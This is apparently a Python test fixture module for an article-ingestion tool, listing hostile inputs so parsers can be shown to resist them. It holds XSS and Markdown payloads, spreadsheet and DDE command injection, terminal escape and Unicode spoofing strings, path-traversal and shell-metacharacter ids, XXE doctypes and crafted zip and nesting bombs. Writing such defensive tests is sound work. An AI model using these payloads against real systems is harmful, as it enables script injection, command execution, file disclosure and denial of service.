"""What a hostile article, file name, archive or model holds, for the tests: texts that some reader of ours might obey."""

import json
import struct
import zlib
from collections.abc import Callable
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

from office import docx, odt, w

MARKUP = (
    "<script>alert(1)</script>",
    "</script><img src=x onerror=alert(1)>",
    "</style></title></textarea><svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    '<a href="java\tscript:alert(1)">x</a>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<base href='https://evil.example/'><form action=//evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "\"' onmouseover=alert(1) style=background:url(//evil.example) x='",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "&lt;script&gt;&#x3c;b&#62;&amp;amp;&#x202e;",
    "<!-- --><![CDATA[x]]><?php x ?><!DOCTYPE a [<!ENTITY b 'c'>]>&b;",
    "{{ 7 * 7 }}{% raw %}${7*7}<%= 7*7 %>#{7*7}",
)

MARKDOWN = (
    "[x](javascript:alert(1)) ![x](https://evil.example/a.png)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<https://evil.example> <javascript:alert(1)>",
    "---\nlayout: evil\n---\n",
    "```\ncode\n```",
    "    indented code",
    "# heading\n\n- item\n\n> quote\n\n1. one",
    "a\n===\n\nb\n---",
    "| a | b |\n|---|---|\n| c | d |",
    "`code` **bold** ~~gone~~ _x_ \\*",
    "</td></tr></table></div></details>",
    "<details open ontoggle=alert(1)>",
    "\n\n<script>alert(1)</script>\n\n",
)

OFFICE = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example","x")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "{ HYPERLINK https://evil.example }",
    '{ INCLUDETEXT "/etc/passwd" }',
    "</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\x</w:instrText>",
    "_x000d_ _x0041_",
)

TERMINAL = (
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1b[2J\x1b[H\x1b[?1049h",
    "\x9b31m\x9d0;title\x9c",
    "good.txt\rtrans: all is well",
    "good.txt\ntrans: all is well\n",
    "good.txt\x0b\x0c\x85\u2028\u2029trans: all is well",
    "\x08\x08\x08\x7f",
    "[red]markup[/] [link=https://evil.example]x[/link]",
    ":warning: :skull:",
    "\\",
    "\x00",
)

UNICODE = (
    "\u202emoc.live\u2069\u202c\u2067",
    "\u2066\u2067\u202a",
    "\ufeff\u200b\u2060\u00ad",
    "\ufffe\uffff\U0010ffff",
    "\ud800\udfff",
    "a" + "\u0301" * 300,
    "\U000e0041\U000e007f",
)

TEXTS = (*MARKUP, *MARKDOWN, *OFFICE, *TERMINAL, *UNICODE)

IDS = (
    "../x",
    "../../../../etc/passwd",
    "/etc/passwd",
    "//host/share",
    "..\\..\\x",
    "C:\\Windows\\x",
    "file:///etc/passwd",
    "https://a/../../x",
    "a/../../x",
    "./x",
    ".",
    "..",
    "...",
    " ",
    ".trans/manifest",
    ".trans",
    "index",
    "%2e%2e%2fx",
    "\u2024\u2024/x",
    "\uff0e\uff0e\uff0fx",
    "a\x00b",
    "a\nb",
    "con",
    "nul.txt",
    "x" * 5_000,
    "ن" * 5_000,
    "~root",
    "$HOME",
    "`id`",
    "-rf",
    "*",
)
"""Ids of records, by which their briefs are named."""

SECRET = "canary-4f7a91c2d8e6"  # noqa: S105  (of nobody)
"""A secret that must be seen nowhere."""

_LAUGHS = "<!DOCTYPE r [<!ENTITY a0 'lol'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))
DOCTYPES = {
    "billion laughs": (_LAUGHS + "]>", "&a11;"),
    "quadratic blowup": (f"<!DOCTYPE r [<!ENTITY a '{'x' * 50_000}'>]>", "&a;" * 5_000),
    "external file": ("<!DOCTYPE r [<!ENTITY a SYSTEM 'FILE'>]>", "&a;"),
    "external address": ("<!DOCTYPE r [<!ENTITY a SYSTEM 'http://127.0.0.1:9/a'>]>", "&a;"),
    "parameter": ("<!DOCTYPE r [<!ENTITY % p SYSTEM 'FILE'> %p;]>", ""),
    "a definition elsewhere": ("<!DOCTYPE r SYSTEM 'FILE'>", ""),
    "public": ("<!DOCTYPE r PUBLIC '-//X//Y' 'http://127.0.0.1:9/a.dtd'>", ""),
}
"""A document type, and a text that uses it; 'FILE' stands for a file on this machine."""

STORY = "أعلنت وزارة المياه اليوم خطة جديدة لتحلية مياه البحر بكلفة 300 مليون دولار."


def xml_files(doctype: str, use: str) -> dict[str, bytes]:
    """Return files of each format made of XML, with a document type, and its entity in their text."""
    text = f"{STORY} {use}"
    item = f"<item><guid>1</guid><title>خبر {use}</title><description>{text}</description></item>"
    rss = f"<rss version='2.0'><channel>{item}</channel></rss>"
    newsml = (
        "<newsItem xmlns='http://iptc.org/std/nar/2006-10-01/' guid='urn:1' version='1'><itemMeta/><contentMeta>"
        f"<headline>خبر {use}</headline></contentMeta><contentSet><inlineData>{text}</inlineData></contentSet></newsItem>"
    )
    paragraphs = f"<p>{STORY} {text} {STORY} {STORY}</p>" * 4
    word, writer = docx(w(text)), odt(f"<text:p>{text}</text:p>")
    return {
        "feed.rss": f"<?xml version='1.0'?>{doctype}{rss}".encode(),
        "item.xml": f"<?xml version='1.0'?>{doctype}{newsml}".encode(),
        "word.docx": _with(word, "word/document.xml", doctype),
        "styles.docx": _with(docx(w(STORY), styles="<w:docDefaults/>"), "word/styles.xml", doctype),
        "relations.docx": _with(word, "_rels/.rels", doctype),
        "writer.odt": _with(writer, "content.xml", doctype),
        "page.html": f"{doctype}<html><body><h1>خبر {use}</h1><article>{paragraphs}</article></body></html>".encode(),
    }


def _with(archive: bytes, name: str, doctype: str) -> bytes:
    """Return an office file with a document type put into one of its parts."""
    out = BytesIO()
    with ZipFile(BytesIO(archive)) as before, ZipFile(out, "w", ZIP_DEFLATED) as after:
        for entry in before.namelist():
            data = before.read(entry)
            if entry == name:
                head, mark, rest = data.partition(b"?>")
                data = head + mark + doctype.encode() + rest if mark else doctype.encode() + data
            after.writestr(entry, data)
    return out.getvalue()


def bomb(name: str, size: int, *, says: int | None = None) -> bytes:
    """Return an archive with one entry of ``size`` spaces, deflated; ``says`` is the size that its headers claim."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    checksum, chunk, data = 0, b" " * 1_000_000, []
    for _ in range(size // len(chunk)):
        data.append(packer.compress(chunk))
        checksum = zlib.crc32(chunk, checksum)
    packed = b"".join([*data, packer.flush()])
    named = name.encode()
    about = struct.pack(
        "<HHHHHIIIHH", 20, 0, 8, 0, 33, checksum, len(packed), says if says is not None else size, len(named), 0
    )
    local = b"PK\x03\x04" + about + named
    central = b"PK\x01\x02" + struct.pack("<H", 20) + about + struct.pack("<HHHII", 0, 0, 0, 0, 0) + named
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(local) + len(packed), 0)
    return local + packed + central + end


def _json_article(**about: object) -> bytes:
    return json.dumps({"id": "1", "title": "خبر", "body": STORY, **about}).encode()


LARGE = 4_000_000
"""Bytes: near the limit of an article, ``run.max_file_mb``."""


def _page(body: bytes) -> bytes:
    return b"<html><body><h1>x</h1><article>" + body + b"</article></body></html>"


def _long(unit: str) -> bytes:
    return (unit * (LARGE // len(unit.encode()))).encode()


BOMBS: dict[str, Callable[[], bytes]] = {
    # Archives.
    "gigabyte.docx": lambda: bomb("word/document.xml", 1_000_000_000),
    "gigabyte.odt": lambda: bomb("content.xml", 1_000_000_000),
    "understated.docx": lambda: bomb("word/document.xml", 200_000_000, says=1_000),
    "overstated.odt": lambda: bomb("content.xml", 1_000_000, says=2**32 - 2),
    "entries.docx": lambda: b"PK\x01\x02" * 100_000 + b"PK\x05\x06" + bytes(18),
    "spaces.odt": lambda: odt(f"<text:p>{STORY}" + "<text:s text:c='999999999'/>" * 20_000 + "</text:p>"),
    "repeated.odt": lambda: odt(
        "<table:table><table:table-row table:number-rows-repeated='1048576'>"
        f"<table:table-cell table:number-columns-repeated='16384'><text:p>{STORY}</text:p></table:table-cell>"
        "</table:table-row></table:table>"
    ),
    "deep.docx": lambda: docx("<w:sdt><w:sdtContent>" * 50_000 + w(STORY) + "</w:sdtContent></w:sdt>" * 50_000),
    "deep.odt": lambda: odt("<text:section>" * 100_000 + f"<text:p>{STORY}</text:p>" + "</text:section>" * 100_000),
    # Depth.
    "deep.rss": lambda: (
        b"<rss><channel><item><title>" + b"<a>" * 100_000 + b"</a>" * 100_000 + b"</title></item></channel></rss>"
    ),
    "deep.html": lambda: _page(b"<div>" * 100_000 + STORY.encode() + b"</div>" * 100_000),
    "inline.html": lambda: _page(b"<p>" + b"<b><i>" * 60_000 + STORY.encode()),
    "tables.html": lambda: _page(b"<table><tr><td>" * 40_000 + STORY.encode()),
    "lists.html": lambda: _page(b"<ul><li>" * 60_000 + STORY.encode()),
    "deep.json": lambda: b'{"title": "x", "body": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    "deep.jsonl": lambda: (
        b'{"title": "x", "body": ' + b"[" * 100_000 + b"]" * 100_000 + b"}\n" + _json_article() + b"\n"
    ),
    "deep.rtf": lambda: rb"{\rtf1 " + b"{" * 1_000_000,
    "deep.md": lambda: b"> " * 100_000 + STORY.encode(),
    "deep.mht": lambda: (
        b"MIME-Version: 1.0\n"
        + b"".join(b'Content-Type: multipart/related; boundary="b%d"\n\n--b%d\n' % (n, n) for n in range(3_000))
    ),
    # Length.
    "line.txt": lambda: _long("ا"),
    "words.txt": lambda: _long("كلمة "),
    "latin.txt": lambda: _long("a"),
    "digits.txt": lambda: _long("1"),
    "stops.txt": lambda: _long("! "),
    "quotes.txt": lambda: _long('"'),
    "lines.txt": lambda: _long("ا\n"),
    "paragraphs.txt": lambda: _long("خبر\n\n"),
    "marks.txt": lambda: ("ا" + "\u064b\u0656" * 1_000_000).encode(),
    "accents.txt": lambda: ("خبر a" + "\u0300\u0316" * (LARGE // 4)).encode(),
    "nul.txt": lambda: STORY.encode() + bytes(LARGE),
    "line.html": lambda: _page(b"<p>" + _long("ا")),
    "tags.html": lambda: _page(b"<p>\xd8\xa7" * 70_000),
    "open.html": lambda: _page(_long("<")),
    "entities.html": lambda: _page(_long("&amp;")),
    "comment.html": lambda: _page(b"<p>x<!--" + _long("-")),
    "attributes.html": lambda: _page(b"<p " + _long("a=1 ") + b">" + STORY.encode()),
    "script.html": lambda: _page(
        b"<script type='application/ld+json'>" + b"[" * 1_000_000 + b"</script><p>" + STORY.encode()
    ),
    "whole.html": lambda: _page(b"<p>" + STORY.encode() * 350_000),
    "line.md": lambda: _long("*a_"),
    "links.md": lambda: _long("[a]("),
    "line.jsonl": lambda: _json_article(body="a" * 4_000_000) + b"\n",
    "number.json": lambda: b'{"title": "x", "body": "y", "version": ' + b"9" * 1_000_000 + b"}",
    "exponent.json": lambda: _json_article()[:-1] + b', "version": 1e999999999}',
    "number.jsonl": lambda: b'{"title": "x", "version": ' + b"9" * 1_000_000 + b"}\n",
    "surrogates.jsonl": lambda: b'{"id": "\\ud800", "title": "\\udfff", "body": "' + STORY.encode() + b' \\ud800"}\n',
    "keys.json": lambda: b"{" + b",".join(b'"k%d": 1' % n for n in range(300_000)) + b"}",
    "columns.csv": lambda: b",".join(b"c%d" % n for n in range(500_000)) + b"\n" + b"x," * 500_000,
    "quote.csv": lambda: b'title,body\n"' + _long("ا"),
    "names.rss": lambda: b"<rss><channel>" + b"".join(b"<a%d/>" % n for n in range(200_000)) + b"</channel></rss>",
    "attribute.rss": lambda: b"<rss><channel><item a='" + _long("x") + b"'/></channel></rss>",
    "words.rtf": lambda: rb"{\rtf1 " + rb"\a" * 1_000_000 + b"}",
    "pictures.rtf": lambda: rb"{\rtf1 \bin999999999 " + bytes(1_000_000) + b"}",
    "encoded.mht": lambda: (
        b"MIME-Version: 1.0\nContent-Type: text/html\nContent-Transfer-Encoding: base64\n\n" + b"AAAA" * 1_000_000
    ),
    "header.mht": lambda: b"MIME-Version: 1.0\nSubject: " + b"=?utf-8?q?a?= " * 300_000 + b"\n\n<p>x",
}
"""Files that ask for far more time or memory than an article: each is read in bounded time and memory, or refused by name."""
